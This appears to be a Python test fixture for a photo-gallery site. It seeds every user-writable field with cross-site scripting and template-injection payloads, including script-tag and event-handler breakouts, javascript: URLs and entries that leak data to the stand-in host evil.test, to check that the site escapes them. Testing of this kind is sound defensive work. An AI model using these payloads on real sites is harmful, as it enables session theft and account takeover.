"""A gallery in which every text that members and editors can write is an attack.

Each calls `pwned` (tests/watching.py) with its mark, such as "title-3", which says from which field it came.
"""

from community import relations
from community.models import Member
from gallery.models import GalleryImage, RankingExclusion
from gallery.popularity.periods import today
from gallery.popularity.storing import add_views
from tests.factories import AlbumFactory, ImageFactory, MemberFactory, PictureFactory, image_file, make_gallery
from web.public_url import is_web_url

PAYLOADS = [  # short, as a member's name may have 60 characters
    "<script>pwned('MARK')</script>",
    "\"><img src=x onerror=pwned('MARK')>",
    "'><svg/onload=pwned('MARK')>",
    "javascript:pwned('MARK')",
    "\" onfocus=pwned('MARK') autofocus x=\"",
    "' onmouseover=pwned('MARK') x='",
    "{{ 7*7 }}{% now 'Y' %}${pwned('MARK')}",
    "</title><script>alert('MARK')</script>",
    "</textarea><script>pwned('MARK')</script>",
    "\u202e\u2028＜script＞pwned('MARK')＜/ſcript＞",
    "[fig](javascript:pwned('MARK'))",
    "data:text/html,<script>pwned('MARK')</script>",
    "}</style><style>*{background:url(//evil.test/MARK)}",
    "\"}]</script><script>pwned('MARK')</script>",
    "<iframe srcdoc='<script>top.pwned(`MARK`)</script>'>",
    "--><img/src=//evil.test/MARK onerror=alert(1)>",
    "<base href=//evil.test><form action=//evil.test/MARK>",
    "&lt;script&gt;pwned('MARK')&lt;/script&gt;",
]
USERNAMES = ["javascript", "constructor", "__proto__", "onerror", "alert.1", "ſcript", "スクリプト", "tostring"]
FIELDS = """name about place website title description credit source tag seo summary album introduction front gallery
    image alt camera lens reason first last""".split()


def text(field: str, number: int) -> str:
    return PAYLOADS[number].replace("MARK", f"{field}-{number}")


def address(field, number):
    """An address that the site's validation takes, with the attack in its query."""
    url = "https://example.org/?" + "+".join(text(field, number).split())
    is_web_url(url)
    return url


def make_hostile_gallery() -> Member:
    """Answers the editor, who follows everybody and has bookmarked every picture."""
    gallery = make_gallery()
    gallery.get_parent().specific_class.objects.update(introduction=all_of("front"))
    type(gallery).objects.update(introduction=all_of("gallery"))
    numbers = range(len(PAYLOADS))
    members = [make_member(number) for number in numbers]
    shared = AlbumFactory(parent=gallery, title="Shared", slug="shared", introduction=all_of("introduction"))
    for number in numbers:
        AlbumFactory(parent=gallery, title=text("album", number), slug=f"album-{number}")
    pictures = [make_picture(shared, number, members[number]) for number in numbers]
    editor = MemberFactory(username="editor", display_name=text("name", 0), is_superuser=True, is_staff=True)
    for member, picture in zip(members, pictures, strict=True):
        relations.follow(editor, member)
        relations.follow(member, editor)
        relations.like(member, picture)
        relations.bookmark(editor, picture)
    add_views({(today(), picture.pk): 10 + picture.pk for picture in pictures})
    return editor


def all_of(field):
    return "\n".join(text(field, number) for number in range(len(PAYLOADS)))


def make_member(number):
    name = USERNAMES[number] if number < len(USERNAMES) else f"member-{number}"
    texts = {"display_name": text("name", number)[:60], "location": text("place", number), "bio": all_of("about")}
    names = {"first_name": text("first", number), "last_name": text("last", number)}
    return MemberFactory(username=name, website=address("website", number), **texts, **names)


def make_picture(album, number, owner):
    image = ImageFactory(title=text("image", number), description=text("alt", number), file=image_file(90, 60))
    GalleryImage.objects.filter(pk=image.pk).update(camera=text("camera", number), lens=text("lens", number))
    image.make_renditions()
    texts = {"title": text("title", number), "description": text("description", number)}
    texts |= {"credit": text("credit", number), "source_url": address("source", number)}
    texts |= {"seo_title": text("seo", number) if number % 2 else "", "search_description": text("summary", number)}
    picture = PictureFactory(parent=album, slug=f"picture-{number}", image=image, owner=owner, **texts)
    picture.tags.add(text("tag", number))
    picture.save()
    if number % 6 == 5:
        RankingExclusion.objects.create(page=picture, reason=text("reason", number), editor=owner)
    return picture
